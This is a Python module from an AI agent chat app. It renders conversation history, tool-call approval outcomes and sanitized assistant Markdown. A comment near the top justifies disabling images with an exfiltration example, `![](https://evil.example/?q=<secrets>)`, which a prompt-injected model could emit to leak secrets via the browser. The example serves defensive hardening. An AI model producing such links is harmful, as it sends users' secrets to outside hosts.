"""How a conversation is shown: session items as chat entries (or as a reviewer's transcript),
the latest run as a live block, and assistant Markdown made safe.

The session (what the SDK stored) and the run rows are the truth; this module only reads them,
through `conversations.items`. The chat page, its history fragment and the websocket consumer
all build what they show here, so a pushed fragment is exactly what a reload would render; the
inbox's request page builds its "conversation so far" here too.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

import nh3
from django.db.models import Exists, OuterRef
from django.urls import reverse
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt

from approvals.models import (
    MCP_KINDS,
    ApprovalDecision,
    ApprovalRequest,
    ApprovalStatus,
    DecisionKind,
    ToolKind,
)
from common import formatting
from conversations import items as session_items
from conversations.items import PATCH_VERBS, patch_target, shell_lines
from conversations.models import (
    MAIN_BRANCH,
    Branch,
    Conversation,
    SessionItem,
    branch_label,
)
from engine import registry
from engine.models import AgentRun, RunStatus
from engine.permissions import can_view_traces, is_reviewer
from engine.runs import STOPPED_REASON

# --- Markdown ---------------------------------------------------------------------------------

# Raw HTML in the source is shown as text (html=False), never passed through. Images are off:
# a model that was fed a hostile page could otherwise make the browser fetch
# `![](https://evil.example/?q=<secrets>)` without a click.
_markdown = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
_markdown.enable(["table", "strikethrough"])
_markdown.disable("image")

# What survives the sanitizer: text structure, no styling hooks (no class, id or style, so
# a reply cannot dress itself up as the site's own status lines), no media, no forms.
ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "b", "i", "s", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}}
# A table column's alignment, the one class a reply may carry: markdown-it writes it as an
# inline style, which the site's Content Security Policy does not apply.
ALIGN_CLASSES = {"align-left", "align-center", "align-right"}
LINK_REL = "noopener noreferrer nofollow"


def render_markdown(text: str) -> SafeString:
    """Assistant Markdown as sanitized HTML, safe to put in a page as is."""
    tokens = _markdown.parse(text or "")
    for token in tokens:
        if token.type in ("th_open", "td_open") and token.attrs.get("style"):
            align = str(token.attrs.pop("style")).removeprefix("text-align:")
            token.attrSet("class", f"align-{align}")
    html = _markdown.renderer.render(tokens, _markdown.options, {})
    cleaned = nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        allowed_classes={"th": ALIGN_CLASSES, "td": ALIGN_CLASSES},
        url_schemes={"http", "https", "mailto"},
        link_rel=LINK_REL,
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )
    return mark_safe(cleaned)  # sanitized by nh3 just above


# --- Session items as chat entries ----------------------------------------------------------

TOOL_OUTPUT_PREVIEW = 160
# A page shows the newest items of a conversation; the agent sees what its own settings say.
HISTORY_ITEMS_SHOWN = 400


@dataclass
class Edit:
    """A user message's Edit control: what it posts to and what its box holds (the message,
    or what she typed, with why it was refused)."""

    url: str
    turn: int
    branch: str
    text: str
    error: str = ""
    open: bool = False


@dataclass
class Entry:
    """One thing shown in the chat: a message, or a compact note about a tool call."""

    kind: str  # "user" | "assistant" | "tool" | "handoff"
    text: str = ""
    html: SafeString | None = None
    output: str = ""
    pending: bool = False
    failed: bool = False  # a tool note of a call whose output says it failed
    # A tool note's call in plain words (what its end user reads; `text` is the call itself),
    # and what a person, a rule or the clock did with it when it waited for one.
    plain: str = ""
    outcome: Outcome | None = None
    # The end user's rating of the run whose reply this is (`conversations.feedback`): set
    # on the last reply of each finished turn, for the page that shows its buttons.
    rating: Any = None
    # A user message's turn on its branch (0: not known), and its Edit control.
    turn: int = 0
    edit: Edit | None = None


def _handoff_target(output: str) -> str | None:
    # The SDK answers a handoff call with {"assistant": "<agent name>"}.
    try:
        parsed = json.loads(output)
    except ValueError:
        return None
    if isinstance(parsed, dict) and list(parsed) == ["assistant"]:
        return str(parsed["assistant"])
    return None


def entries_for(
    items: Sequence[Any], turns: Sequence[int] | None = None, words: CallWords | None = None
) -> list[Entry]:
    """Chat entries for session items, oldest first; `turns`, each item's turn, numbers
    the user messages; `words`, the conversation's calls in plain words and what people did
    with them (without it, a note names its call only).

    A tool call and its output become one note; items people don't read (reasoning, system
    messages, orphaned outputs) are left out.
    """
    outputs: dict[str, str] = {}
    for item in items:
        if (answer := session_items.output_view(item)) is not None:
            outputs[answer[0]] = answer[1]
    entries: list[Entry] = []
    for index, item in enumerate(items):
        kind = session_items.kind(item)
        if kind == "user":
            turn = turns[index] if turns is not None else 0
            entries.append(Entry("user", text=session_items.message_text(item), turn=turn))
        elif kind == "assistant":
            text = session_items.message_text(item)
            if text.strip():
                entries.append(Entry("assistant", text=text, html=render_markdown(text)))
        elif kind == "call" and (call := session_items.call_view(item)) is not None:
            output = call.output if call.output is not None else outputs.get(call.call_id)
            target = _handoff_target(output) if output is not None and call.is_function else None
            if target is not None:
                entries.append(Entry("handoff", text=target))
                continue
            failed = output is not None and session_items.failed_output(output)
            if failed and output is not None:
                output = output.removeprefix(session_items.TOOL_ERROR_PREFIX)
            shown = "" if output is None else formatting.preview(output, TOOL_OUTPUT_PREVIEW)
            entry = Entry(
                "tool", text=call.text, output=shown, pending=output is None, failed=failed
            )
            if words is not None:
                entry.plain, entry.outcome = words.plain(call), words.outcome(call.call_id)
            entries.append(entry)
    return entries


# --- What people did with a call ---------------------------------------------------------------


@dataclass(frozen=True)
class Outcome:
    """What a person, a rule or the clock did with a call that waited for a reviewer, in words
    for the person who asked: "Approved by rita.", "rita changed it before it ran: amount
    $80.00 → $60.00.", "You withdrew this request; nothing was done."."""

    kind: str  # a `DecisionKind` value, or "policy" (a rule approved it), or "cancelled"
    sentence: str
    # Whether the tool ran: the note's output is then the tool's; else it is not shown as one.
    ran: bool
    # What the reviewer wrote for it: the rejection's message, or the answer given as the tool.
    message: str = ""


class CallWords:
    """The chat's words for the calls among `items` of `conversation`: each call in plain
    words (its tool's description, money as money), and, for a call that waited, what was
    done with it. Two queries, only when the items hold a call."""

    def __init__(self, conversation: Conversation, items: Iterable[Any]) -> None:
        self.agent_name = conversation.agent_name
        self.owner_id = conversation.owner_id
        ids = {
            view.call_id
            for item in items
            if (view := session_items.call_view(item)) is not None and view.call_id
        }
        self.requests: dict[str, ApprovalRequest] = {}
        self.decisions: dict[int, ApprovalDecision] = {}
        self._described: dict[str, tuple[str, registry.Review]] = {}
        if not ids:
            return
        found = (
            ApprovalRequest.objects.filter(run__conversation=conversation, call_id__in=ids)
            .select_related("run", "decided_by")
            .order_by("pk")
        )
        for request in found:
            if request.is_decided or request.status == ApprovalStatus.CANCELLED:
                self.requests[request.call_id] = request  # the latest decided, by pk
        decided = [request.pk for request in self.requests.values()]
        if decided:
            rows = ApprovalDecision.objects.filter(request_id__in=decided).order_by("created", "pk")
            self.decisions = {row.request_id: row for row in rows}  # each request's latest

    def plain(self, call: session_items.CallView) -> str:
        request = self.requests.get(call.call_id)
        if request is not None:
            decision = self.decisions.get(request.pk)
            edited = decision.edited_arguments if decision is not None else None
            return call_for(request, edited).plain
        description, review = self._tool(call.name)
        return plain_call(description, call.name, call.arguments, money=review)

    def outcome(self, call_id: str) -> Outcome | None:
        request = self.requests.get(call_id)
        if request is None:
            return None
        return outcome_of(request, self.decisions.get(request.pk), self.owner_id)

    def _tool(self, tool_name: str) -> tuple[str, registry.Review]:
        if tool_name not in self._described:
            tool = registry.reachable_tool(self.agent_name, tool_name)
            self._described[tool_name] = (
                (str(getattr(tool, "description", "") or ""), registry.declared_review(tool))
                if tool is not None
                else ("", registry.Review())
            )
        return self._described[tool_name]


def outcome_of(
    request: ApprovalRequest, decision: ApprovalDecision | None, owner_id: int | None
) -> Outcome:
    """What was done with `request` (its latest `decision`), told to its conversation's owner."""
    by = request.decider_display() or "A reviewer"
    policy = request.decided_by_policy or (decision.policy_name if decision is not None else "")
    kind = decision.kind if decision is not None else ""
    message = decision.message if decision is not None else ""
    status = request.status
    if status == ApprovalStatus.WITHDRAWN or (decision is not None and decision.withdrawn):
        if decision is not None and decision.reviewer_id not in (None, owner_id):
            return Outcome("withdrawn", f"{by} withdrew this request; nothing was done.", False)
        return Outcome("withdrawn", "You withdrew this request; nothing was done.", False)
    if status == ApprovalStatus.APPROVED:
        if kind == DecisionKind.EDITED and decision is not None:
            changes = changed_arguments(request, decision.edited_arguments)
            said = f": {'; '.join(changes)}" if changes else ""
            return Outcome("edited", f"{by} changed your request before it ran{said}.", True)
        if policy:
            return Outcome("policy", f"Approved by the rule “{policy}”.", True)
        if request.approved_on_expiry:
            return Outcome(
                DecisionKind.EXPIRY_APPROVED,
                "Nobody decided in time, so the expiry rule approved it.",
                True,
            )
        return Outcome(DecisionKind.APPROVED, f"Approved by {by}.", True)
    if status == ApprovalStatus.RESPONDED:
        return Outcome(
            DecisionKind.RESPONDED,
            f"Not run: {by} answered instead of the tool.",
            False,
            message,
        )
    if status == ApprovalStatus.REJECTED:
        who = f"the rule “{policy}”" if policy else by
        return Outcome(
            DecisionKind.REJECTED, f"Not approved by {who}; nothing was done.", False, message
        )
    if status == ApprovalStatus.EXPIRED:
        return Outcome(DecisionKind.EXPIRED, "Nobody decided in time; nothing was done.", False)
    return Outcome("cancelled", "Cancelled before anyone decided; nothing was done.", False)


def changed_arguments(request: ApprovalRequest, edited: Any) -> list[str]:
    """What a reviewer's edit changed, argument by argument: "amount $80.00 → $60.00"."""
    before = request.arguments if isinstance(request.arguments, dict) else {}
    if not isinstance(edited, dict):
        return []
    review = registry.request_sheet(request.run.agent_name, request).review
    changes = []
    for key in [*before, *(key for key in edited if key not in before)]:
        old, new = before.get(key), edited.get(key)
        if old != new:
            label = _label(key)
            changes.append(f"{label} {_value(key, old, review)} → {_value(key, new, review)}")
    return changes


# --- Session items as a reviewer's transcript ------------------------------------------------

# A reviewer reads more of a tool's output than the chat's one-line note shows.
REVIEW_OUTPUT_CHARS = 600


def review_lines(items: Iterable[Any], call_id: str) -> list[dict[str, Any]]:
    """Session items as the lines of the inbox's "conversation so far": who said what, each
    tool call (the one under review marked `current`) and, on a line of its own, its output.

    Text is returned raw; the template escapes it.
    """
    lines: list[dict[str, Any]] = []
    names: dict[str, str] = {}
    for item in items:
        kind = session_items.kind(item)
        if kind == "call" and (call := session_items.call_view(item)) is not None:
            names[call.call_id] = call.name
            lines.append({"kind": "call", "text": call.text, "current": call.call_id == call_id})
            if call.output is not None:
                lines.append(_output_line(call.name, call.output))
        elif kind == "output" and (answer := session_items.output_view(item)) is not None:
            lines.append(_output_line(names.get(answer[0], "tool"), answer[1]))
        elif kind in ("user", "assistant"):
            text = session_items.message_text(item, sep="\n")
            if text:
                lines.append({"kind": kind, "text": text})
    return lines


def _output_line(name: str, text: str) -> dict[str, Any]:
    return {
        "kind": "output",
        "name": name,
        "text": text[:REVIEW_OUTPUT_CHARS],
        "truncated": len(text) > REVIEW_OUTPUT_CHARS,
    }


# --- The latest run -------------------------------------------------------------------------


@dataclass
class Call:
    """A tool call as its end user reads it (`plain`) and as operators do (`raw`)."""

    plain: str
    raw: str
    # Waiting again after nobody decided in time: the group it was escalated to, and its new
    # deadline.
    escalated_to: str = ""
    until: datetime | None = None


@dataclass
class Decided:
    call: Call
    status: str
    by: str
    # What a reviewer's edit changed ("amount $80.00 → $60.00"), when she edited it.
    changes: list[str] = field(default_factory=list)


@dataclass
class RunView:
    """The latest run, as the block `#run-<pk>`: its user message, what it did, its status."""

    run: AgentRun
    user_text: str
    entries: list[Entry]
    waiting_for: list[Call] = field(default_factory=list)
    decided: list[Decided] = field(default_factory=list)
    # The pending requests the user may withdraw (their pks), beside the waiting notice.
    withdrawable: list[int] = field(default_factory=list)
    # The end user's rating of its reply, once it is finished (`conversations.feedback`).
    rating: Any = None
    # Its user message's turn (0: not in the session) and Edit control, once it is finished.
    turn: int = 0
    edit: Edit | None = None
    # Cancelled by a Stop of the conversation's owner (who reads "You stopped this reply").
    stopped_by_owner: bool = False

    @property
    def is_active(self) -> bool:
        return self.run.is_busy

    @property
    def is_streaming(self) -> bool:
        return self.run.is_active

    @property
    def streamed_length(self) -> int:
        """How much of the text streamed so far the page shows (in code points, as the
        deltas count it: `events.TextDelta.at`)."""
        return len(self.run.streamed_text) if self.is_streaming else 0

    @property
    def reply_html(self) -> SafeString | None:
        """The final reply, when the session does not hold it (it normally does)."""
        if self.run.status != RunStatus.COMPLETED or not self.run.final_output:
            return None
        if any(entry.kind == "assistant" for entry in self.entries):
            return None
        return render_markdown(self.run.final_output)


@dataclass
class BranchChoice:
    """A version of the conversation the branch switcher offers."""

    branch_id: str
    label: str
    current: bool
    # Where it forked off (the message it starts with a new text), for a made branch.
    from_turn: int = 0


@dataclass
class History:
    conversation: Conversation
    entries: list[Entry]
    run: RunView | None
    latest_run_pk: int
    unreadable: int = 0
    truncated: bool = False
    title: str = ""
    # The versions of the conversation, when it has more than one (else empty).
    branches: list[BranchChoice] = field(default_factory=list)

    @property
    def is_empty(self) -> bool:
        return not self.entries and self.run is None


@dataclass
class LoadedRun:
    """A run, with the approval requests of its latest pause."""

    run: AgentRun
    requests: list[ApprovalRequest]


def latest_run(conversation: Conversation) -> LoadedRun | None:
    """The newest run of the branch the conversation is on (two queries at most)."""
    run = (
        AgentRun.objects.filter(conversation=conversation)
        .on_branch(conversation.current_branch)
        .order_by("-created", "-pk")
        .first()
    )
    return _load(run)


def run_for_event(conversation: Conversation, run_id: int) -> LoadedRun | None:
    """The run an event is about, if it is of the branch the conversation is on (the page
    shows that one)."""
    run = AgentRun.objects.filter(conversation=conversation, pk=run_id).first()
    if run is None or run.branch != conversation.current_branch:
        return None
    return _load(run)


def previous_run_pk(run: AgentRun) -> int:
    """The run before `run` on its branch: the page's slot a new run's block goes into."""
    earlier = (
        AgentRun.objects.filter(conversation_id=run.conversation_id, pk__lt=run.pk)
        .on_branch(run.branch)
        .order_by("-pk")
        .values_list("pk", flat=True)
        .first()
    )
    return earlier or 0


def _load(run: AgentRun | None) -> LoadedRun | None:
    if run is None:
        return None
    requests: list[ApprovalRequest] = []
    if run.pause_count:
        requests = list(
            ApprovalRequest.objects.of_pause(run, run.pause_count)
            .select_related("decided_by")
            .order_by("pk")
        )
        for request in requests:
            request.run = run  # what their calls are read with; spares a query each
    return LoadedRun(run, requests)


def _split(items: Sequence[Any], run: AgentRun) -> int | None:
    """Where the run's turn starts in the items: its user message, the last one."""
    for index in range(len(items) - 1, -1, -1):
        if session_items.is_user_message(items[index]):
            text = session_items.message_text(items[index])
            return index if text.strip() == run.input.strip() else None
    return None


def run_view(
    conversation: Conversation,
    items: Sequence[Any],
    loaded: LoadedRun | None,
    turns: Sequence[int] | None = None,
    words: CallWords | None = None,
) -> tuple[list[Any], RunView | None]:
    """Split the items into earlier history and the latest run's block (if it shows one);
    with `turns` (each item's), the block's message can be edited once the run ended;
    `words` (else read here) tell its calls in plain words."""
    if loaded is None:
        return list(items), None
    run = loaded.run
    run.conversation = conversation  # the block links to it; spares a query
    start = None if run.status == RunStatus.QUEUED else _split(items, run)
    number = 0
    if start is not None:
        number = turns[start] if turns is not None else 0
        before, turn = list(items[:start]), list(items[start + 1 :])
    else:
        # The run's user message is not in the session: not stored yet (queued, just
        # claimed, failed before it started) or gone (undone, cleared).
        before, turn = list(items), []
        # A run that ended before its message reached the session (failed, stopped, or
        # refused by a guardrail, which takes the message back) shows until the next change.
        shown = not run.is_finished or (
            run.status in (RunStatus.FAILED, RunStatus.CANCELLED, RunStatus.GUARDRAIL)
            and run.finished is not None
            and run.finished >= conversation.updated
        )
        if not shown:
            return before, None
    entries = entries_for(turn, words=words or CallWords(conversation, turn))
    if run.status in (RunStatus.WAITING, RunStatus.RESUMING):
        # The status lines name the calls that wait or were just decided (as they will run,
        # a reviewer's edit included); no note of them twice.
        entries = [entry for entry in entries if not (entry.kind == "tool" and entry.pending)]
    view = RunView(run=run, user_text=run.input, entries=entries, turn=number)
    if run.status == RunStatus.CANCELLED and run.error:
        owner = conversation.owner
        view.stopped_by_owner = owner is not None and run.error == STOPPED_REASON.format(
            who=owner.get_username()
        )
    if number and run.is_finished:
        view.edit = edit_for(conversation, number, run.input)
    if run.status in (RunStatus.WAITING, RunStatus.RESUMING):
        edited = _edited_arguments(loaded.requests)
        for request in loaded.requests:
            if request.is_pending:
                call = call_for(request)
                if request.is_escalated:
                    call.escalated_to, call.until = request.escalate_to, request.expires_at
                view.waiting_for.append(call)
                view.withdrawable.append(request.pk)
            elif request.is_decided:
                changed = edited.get(request.pk)
                view.decided.append(
                    Decided(
                        call=call_for(request, changed),
                        status=request.status,
                        by=request.decider_display(),
                        changes=changed_arguments(request, changed) if changed else [],
                    )
                )
    return before, view


def build_history(
    conversation: Conversation,
    items: Sequence[Any],
    loaded: LoadedRun | None,
    unreadable: int = 0,
    turns: Sequence[int] | None = None,
) -> History:
    """What the chat shows of the branch the conversation is on: `items` (with `turns`,
    each item's turn, its messages get Edit controls) and its latest run."""
    words = CallWords(conversation, items)
    before, view = run_view(conversation, items, loaded, turns, words)
    entries = entries_for(before, turns[: len(before)] if turns is not None else None, words)
    for entry in entries:
        if entry.turn:
            entry.edit = edit_for(conversation, entry.turn, entry.text)
    return History(
        conversation=conversation,
        entries=entries,
        run=view,
        latest_run_pk=loaded.run.pk if loaded is not None else 0,
        unreadable=unreadable,
        title=display_title(conversation, items, view.run if view is not None else None),
    )


def edit_for(conversation: Conversation, turn: int, text: str) -> Edit:
    return Edit(
        url=reverse("chat_edit", args=[conversation.session_id, turn]),
        turn=turn,
        branch=conversation.current_branch,
        text=text,
    )


def branch_choices(conversation: Conversation) -> list[BranchChoice]:
    """The versions of a conversation that was ever forked, oldest first: "Original" and
    each fork that has messages (the one it is on, even before its first message is
    stored). Two small queries; none for a conversation never forked (`forked`, when the
    caller annotated it)."""
    if not getattr(conversation, "forked", True):
        return []
    items = SessionItem.objects.filter(conversation=conversation)
    made = list(
        Branch.objects.filter(conversation=conversation)
        .annotate(used=Exists(items.filter(branch=OuterRef("branch_id"))))
        .order_by("id")
        .values_list("branch_id", "from_turn", "used")
    )
    if not made:
        return []
    current = conversation.current_branch
    choices = []
    if current == MAIN_BRANCH or items.filter(branch=MAIN_BRANCH).exists():
        choices.append(BranchChoice(MAIN_BRANCH, branch_label(MAIN_BRANCH), current == MAIN_BRANCH))
    choices.extend(
        BranchChoice(branch_id, branch_label(branch_id), branch_id == current, from_turn)
        for branch_id, from_turn, used in made
        if used or branch_id == current
    )
    return choices if len(choices) > 1 else []


# --- The header -----------------------------------------------------------------------------

TITLE_CHARS = 80


def display_title(
    conversation: Conversation, items: Sequence[Any] = (), shown_run: AgentRun | None = None
) -> str:
    """The conversation's title, else its first message (that of the run whose block is
    shown, when the session does not hold one yet), else "New conversation"."""
    if conversation.title:
        return conversation.title
    first = next(
        (session_items.message_text(item) for item in items if session_items.is_user_message(item)),
        "",
    )
    if not first.strip() and shown_run is not None:
        first = shown_run.input
    if first.strip():
        return formatting.preview(first, TITLE_CHARS)
    return "New conversation"


def answering(conversation: Conversation) -> str:
    """Who answers the conversation's next message: the agent that answered last (a handoff
    target once there was a handoff), by its own name."""
    name = conversation.answering_agent
    return registry.display_name(name) if name else ""


# --- A call, in plain words -----------------------------------------------------------------


def shows_calls(user: Any) -> bool:
    """Operators and reviewers see each call as the call itself beside its plain words; end
    users read the plain words only."""
    return is_reviewer(user) or can_view_traces(user)


PLAIN_ARGUMENTS = 4
PLAIN_VALUE_CHARS = 40
_SENTENCE_END = re.compile(r"(?<=[.!?])\s|\n")
_ASIDE = re.compile(r"\s*\([^()]*\)")


def call_for(request: ApprovalRequest, edited: Any = None) -> Call:
    """The call of `request`: in plain words from its tool's description, and as the call;
    with `edited`, the arguments a reviewer changed it to (what runs)."""
    if edited is None and not request.arguments_intact:
        raw = request.call_display()
        return Call(plain=raw, raw=raw)
    arguments = request.arguments if edited is None else edited
    sheet = registry.request_sheet(request.run.agent_name, request)
    description = "" if request.kind in MCP_KINDS else sheet.description
    if isinstance(arguments, dict):
        # In the tool's order (PostgreSQL's jsonb keeps keys in an order of its own).
        place = {name: index for index, (name, _) in enumerate(sheet.properties)}
        arguments = dict(sorted(arguments.items(), key=lambda item: place.get(item[0], len(place))))
    return Call(
        plain=plain_call(
            description,
            request.tool_name,
            arguments,
            kind=request.kind,
            server=request.server,
            money=sheet.review,
        ),
        raw=session_items.format_call(request.tool_name, arguments),
    )


def _edited_arguments(requests: Sequence[ApprovalRequest]) -> dict[int, Any]:
    """The arguments reviewers edited approved calls of `requests` to: one query, none when
    none was approved."""
    approved = [request.pk for request in requests if request.status == ApprovalStatus.APPROVED]
    if not approved:
        return {}
    rows = ApprovalDecision.objects.filter(request_id__in=approved, kind=DecisionKind.EDITED)
    return dict(rows.values_list("request_id", "edited_arguments"))


def plain_call(
    description: str,
    tool_name: str,
    arguments: Any,
    kind: str = ToolKind.FUNCTION,
    server: str = "",
    money: registry.Review | None = None,
) -> str:
    """A call as a person reads it: the first sentence of the tool's description, its asides
    in parentheses left out (else its name in words), and the values of its arguments, named
    without "_id", those its author declared money as money (`money`'s): "refund part or all
    of an order (order 42, amount $80.00)". A call of another kind of tool (a shell command,
    a patch, an MCP server's tool) in words of its own (`plain_kind_call`)."""
    own_words = plain_kind_call(kind, server, tool_name, arguments, money)
    if own_words is not None:
        return own_words
    sentence = _SENTENCE_END.split(description.strip(), maxsplit=1)[0].strip().rstrip(".")
    # "(only the asker's own)": a note from the tool's author to the model, not the action.
    sentence = _ASIDE.sub("", sentence).strip()
    if not sentence:
        sentence = tool_name.replace("_", " ").strip() or "run a tool"
    if sentence[1:2].islower() or len(sentence) == 1:
        sentence = sentence[0].lower() + sentence[1:]
    return _with_values(sentence, arguments, money)


def _label(key: Any) -> str:
    return str(key).removesuffix("_id").replace("_", " ").strip()


def _value(key: Any, value: Any, money: registry.Review | None) -> str:
    """An argument's value for people, on one line: money as money, text as text."""
    if money is not None and key in money.money:
        amount = formatting.money(value, money.currency)
        if amount is not None:
            return amount
    if value is None:
        return "none"
    shown = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
    return formatting.preview(shown, PLAIN_VALUE_CHARS)


def _with_values(sentence: str, arguments: Any, money: registry.Review | None = None) -> str:
    """`sentence` and the values of the call's arguments: "cancel an order (order 42)"."""
    values = []
    if isinstance(arguments, dict):
        for key, value in arguments.items():
            if value is None or value == "":
                continue
            values.append(f"{_label(key)} {_value(key, value, money)}".strip())
    elif arguments not in (None, "", {}):
        values.append(formatting.preview(json.dumps(arguments, ensure_ascii=False), 60))
    if len(values) > PLAIN_ARGUMENTS:
        values = [*values[:PLAIN_ARGUMENTS], "…"]
    return f"{sentence} ({', '.join(values)})" if values else sentence


PLAIN_COMMAND_CHARS = 80


def plain_kind_call(
    kind: str, server: str, tool_name: str, arguments: Any, money: registry.Review | None = None
) -> str | None:
    """The words for a call that is not a function tool's (`ApprovalRequest.kind`): "run a
    command: ls -la", "change the file src/app.py", "use restock on warehouse (sku
    grinder)"; None for a function tool's, or arguments of a shape its kind does not have.
    Never the description of a function tool that shares an MCP tool's name."""
    if kind == ToolKind.SHELL and (commands := shell_lines(arguments)) is not None:
        if not commands:
            return "run a command"
        shown = formatting.preview("; ".join(commands), PLAIN_COMMAND_CHARS)
        many = f"{len(commands)} commands" if len(commands) > 1 else "a command"
        return f"run {many}: {shown}"
    if kind == ToolKind.APPLY_PATCH and (target := patch_target(arguments)) is not None:
        operation, path = target
        verb = "change" if PATCH_VERBS[operation] == "update" else PATCH_VERBS[operation]
        return f"{verb} the file {formatting.preview(path, PLAIN_COMMAND_CHARS)}"
    if kind in MCP_KINDS:
        where = f" on {server}" if server else ""
        return _with_values(f"use {tool_name or 'a tool'}{where}", arguments, money)
    return None
